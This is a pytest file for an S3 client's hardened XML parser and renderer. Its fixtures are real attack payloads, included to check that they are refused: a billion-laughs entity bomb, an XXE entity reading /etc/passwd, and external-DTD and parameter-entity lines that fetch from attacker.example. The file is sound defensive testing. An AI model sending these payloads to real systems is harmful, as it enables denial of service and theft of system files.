"""The hardened XML parser and the renderer."""

from __future__ import annotations

import pytest

from s3_asyncio_client.exceptions import S3ServerError
from s3_asyncio_client.protocol.documents import S3_NAMESPACE, parse_xml, render

REFUSED = "refusing an XML document with a DOCTYPE or ENTITY declaration"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ListBucketResult><Name>&lol9;</Name></ListBucketResult>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Error [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Error><Code>&xxe;</Code></Error>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        b'<!doctype r SYSTEM "http://attacker.example/evil.dtd"><r/>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
        b"<r/><!ENTITY x 'y'>",
        b"   \n<!DocType r><r/>",
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "parameter-entity",
        "entity",
        "mixed-case",
    ],
)
def test_doctype_and_entity_documents_are_refused_before_parsing(body: bytes) -> None:
    # The message is the pre-check's own, not an expat error: nothing was parsed.
    with pytest.raises(S3ServerError, match=REFUSED):
        parse_xml(body)


def test_utf16_entity_document_is_refused() -> None:
    body = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        "<r>&b;</r>"
    ).encode("utf-16")
    with pytest.raises(S3ServerError):
        parse_xml(body)


@pytest.mark.parametrize(
    "body", [b"", b"   ", b"<Error><Code>x</Code>", b"<a></b>", b"\xff\xfe\x00garbage", b"text"]
)
def test_malformed_documents_are_server_errors(body: bytes) -> None:
    with pytest.raises(S3ServerError, match="malformed XML reply"):
        parse_xml(body)


def test_node_lookups_ignore_the_namespace() -> None:
    body = (f'<R xmlns="{S3_NAMESPACE}"><A>1</A><B/><A>2</A><C><D>deep</D></C></R>').encode()
    root = parse_xml(body)
    assert root.tag == "R"
    assert [node.text for node in root.children("A")] == ["1", "2"]
    assert [node.tag for node in root.children()] == ["A", "B", "A", "C"]
    assert root.find_text("A") == "1"
    assert root.find_text("B") == ""
    assert root.find_text("Missing") is None
    assert root.find_text("Missing", "fallback") == "fallback"
    assert root.child("Missing") is None
    child = root.child("C")
    assert child is not None
    assert child.find_text("D") == "deep"


def test_text_entities_and_character_references_are_decoded() -> None:
    root = parse_xml(b"<K>a&amp;b&lt;c&gt;d&quot;e&apos;f&#13;g&#x1F600;</K>")
    assert root.text == "a&b<c>d\"e'f\rg😀"


# --- render ------------------------------------------------------------------------------


def test_render_escapes_markup_characters() -> None:
    body = render("Delete", [("Object", {"Key": "a&b<c>d"})])
    assert body == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
        b"<Object><Key>a&amp;b&lt;c&gt;d</Key></Object></Delete>"
    )


def test_render_scalars_nesting_and_none() -> None:
    body = render(
        "Root",
        [
            ("Flag", True),
            ("Off", False),
            ("Number", 42),
            ("Skipped", None),
            ("Nested", [("A", "1"), ("B", {"C": "2"})]),
            ("Empty", []),
        ],
        namespace=False,
    )
    assert body == (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b"<Root><Flag>true</Flag><Off>false</Off><Number>42</Number>"
        b"<Nested><A>1</A><B><C>2</C></B></Nested><Empty></Empty></Root>"
    )


def test_render_encodes_utf8() -> None:
    assert render("K", [("V", "日本")], namespace=False).endswith("<K><V>日本</V></K>".encode())


@pytest.mark.parametrize(
    "value",
    [
        "plain",
        "a&b",
        "<Error>",
        "]]>",
        "quote\"s and 'apostrophes'",
        "tab\there",
        "ünï😀",
        "  spaces  ",
        "line\nbreak",
        "&amp;",
    ],
)
def test_render_then_parse_round_trips(value: str) -> None:
    root = parse_xml(render("Delete", [("Object", {"Key": value}), ("Quiet", True)]))
    assert root.tag == "Delete"
    obj = root.child("Object")
    assert obj is not None
    assert obj.find_text("Key") == value
    assert root.find_text("Quiet") == "true"


@pytest.mark.parametrize("value", ["a\rb", "a\r\nb"])
def test_render_then_parse_round_trips_carriage_returns(value: str) -> None:
    assert parse_xml(render("K", [("V", value)])).find_text("V") == value
